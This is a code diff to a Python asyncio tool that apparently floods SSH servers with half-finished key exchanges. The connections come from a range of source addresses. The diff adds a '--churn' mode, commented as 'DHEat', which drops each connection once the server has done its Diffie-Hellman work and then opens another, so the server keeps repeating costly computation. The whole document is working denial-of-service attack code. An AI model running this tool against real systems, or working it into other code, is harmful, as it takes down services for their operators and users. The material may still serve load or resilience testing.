@@ -162,7 +162,9 @@ async def read_packet(reader: asyncio.StreamReader) -> bytes:
     return rest[: length - 1 - _pad]
 
 
-async def half_kex(host: str, port: int, source: str, stats: FloodStats, timeout: float) -> None:
+async def half_kex(
+    host: str, port: int, source: str, stats: FloodStats, timeout: float, churn: bool = False
+) -> None:
     """One connection: version, KEXINIT, the first key-exchange message; then hold it open,
     reading whatever comes, until the server drops it."""
     c = stats.counts
@@ -217,6 +219,9 @@ async def half_kex(host: str, port: int, source: str, stats: FloodStats, timeout
             if stage == "before_reply":
                 c["kex_replies"] += 1
                 stage = "held"
+                if churn:  # DHEat: the work is done; leave and make it do it again
+                    c["closed_by_us"] += 1
+                    break
     except (OSError, ConnectionError, TimeoutError, asyncio.IncompleteReadError, ValueError):
         pass
     finally:
@@ -228,11 +233,18 @@ async def half_kex(host: str, port: int, source: str, stats: FloodStats, timeout
 
 
 async def flood_slot(
-    host: str, port: int, source: str, stats: FloodStats, deadline: float, delay: float
+    host: str,
+    port: int,
+    source: str,
+    stats: FloodStats,
+    deadline: float,
+    delay: float,
+    churn: bool,
 ) -> None:
     loop = asyncio.get_running_loop()
     while loop.time() < deadline:
-        await half_kex(host, port, source, stats, timeout=max(1.0, deadline - loop.time()))
+        timeout = max(1.0, deadline - loop.time())
+        await half_kex(host, port, source, stats, timeout, churn)
         await asyncio.sleep(delay * (0.5 + random.random()))
 
 
@@ -256,7 +268,7 @@ async def flood(args: argparse.Namespace) -> dict[str, object]:
     sources = source_range(args.sources)
     tasks = [
         asyncio.create_task(
-            flood_slot(args.host, args.port, src, stats, deadline, args.reopen_delay)
+            flood_slot(args.host, args.port, src, stats, deadline, args.reopen_delay, args.churn)
         )
         for src in sources
         for _ in range(args.per_source)
@@ -305,6 +317,7 @@ def main(argv: Sequence[str] | None = None) -> int:
     f.add_argument("--per-source", type=int, default=10)
     f.add_argument("--seconds", type=float, default=30.0)
     f.add_argument("--reopen-delay", type=float, default=0.05)
+    f.add_argument("--churn", action="store_true", help="close once answered, open another")
     s = sub.add_parser("stream", help="a TCP service that streams zeros as fast as it can")
     s.add_argument("--port", type=int, required=True)
     args = p.parse_args(argv)
